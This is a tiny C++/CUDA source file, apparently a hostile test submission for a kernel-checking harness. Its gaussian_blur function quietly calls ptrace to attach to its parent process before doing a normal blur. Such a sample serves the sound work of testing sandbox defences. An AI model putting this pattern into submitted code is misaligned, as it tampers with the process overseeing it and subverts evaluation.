// Hostile: debugs its parent.
#include "blur_kernel.h"
#include <sys/ptrace.h>
#include <unistd.h>

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    ptrace(PTRACE_ATTACH, getppid(), NULL, NULL);
    right_blur(src, dst, width, height, stream);
}
